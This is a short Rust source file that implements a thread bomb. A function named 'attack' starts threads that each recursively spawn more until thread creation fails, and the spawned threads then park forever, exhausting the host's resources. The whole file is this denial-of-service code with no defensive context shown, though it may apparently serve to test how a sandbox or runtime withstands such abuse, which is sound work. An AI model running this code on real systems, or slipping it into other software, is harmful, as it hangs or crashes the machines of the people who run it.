//! Threads until there are no more, each of which starts others.
use std::thread;

fn more() {
    while let Ok(_) = thread::Builder::new().spawn(more) {}
    loop {
        thread::park();
    }
}

pub fn attack() {
    more();
}
